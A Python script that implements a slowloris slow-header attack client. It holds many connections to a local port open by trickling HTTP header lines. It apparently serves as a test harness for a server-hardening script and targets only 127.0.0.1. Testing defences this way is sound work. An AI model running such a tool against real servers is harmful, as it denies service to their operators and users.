#!/usr/bin/env python3
"""trickle.py - a slow-header client for serve_starve.sh (slowloris).

    trickle.py SOURCE_IP PORT CONNECTIONS SECONDS INTERVAL

Keeps CONNECTIONS connections from SOURCE_IP to 127.0.0.1:PORT open for SECONDS, each sending
a request line and then one more header line every INTERVAL seconds, never ending the
header; a connection the server closes is opened again after 0.25 s. Prints JSON: how many
connections were opened and closed by the server, and the longest time one stayed open.
"""
import json
import socket
import sys
import time

src, port, n, seconds, interval = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), \
    float(sys.argv[4]), float(sys.argv[5])


def connect():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.bind((src, 0))
    s.settimeout(2)
    try:
        s.connect(("127.0.0.1", port))
        s.sendall(b"GET /login HTTP/1.1\r\nHost: 127.0.0.1\r\n")
    except OSError:
        s.close()
        return None
    s.setblocking(False)
    return s


start = time.monotonic()
conns = {}  # socket -> (opened, next send)
opened = closed = 0
longest = 0.0
retry_at = {}  # slot -> time
slots = [None] * n
while time.monotonic() - start < seconds:
    now = time.monotonic()
    for i in range(n):
        s = slots[i]
        if s is None:
            if retry_at.get(i, 0) <= now:
                s = connect()
                if s is None:
                    retry_at[i] = now + 0.25
                    continue
                slots[i] = s
                conns[s] = [now, now + interval]
                opened += 1
            continue
        t0, due = conns[s]
        dead = False
        try:
            if s.recv(4096) == b"":
                dead = True
        except BlockingIOError:
            pass
        except OSError:
            dead = True
        if not dead and due <= now:
            try:
                s.send(b"X-Trickle: %d\r\n" % int(now * 1000))
                conns[s][1] = now + interval
            except BlockingIOError:
                pass
            except OSError:
                dead = True
        if dead:
            longest = max(longest, now - t0)
            closed += 1
            del conns[s]
            s.close()
            slots[i] = None
            retry_at[i] = now + 0.25
    time.sleep(0.05)
now = time.monotonic()
still = [now - t0 for t0, _ in conns.values()]
for s in conns:
    s.close()
print(json.dumps({"opened": opened, "closed_by_server": closed, "longest_closed": round(longest, 2),
                  "open_at_end": len(still), "oldest_open": round(max(still, default=0), 2)}))
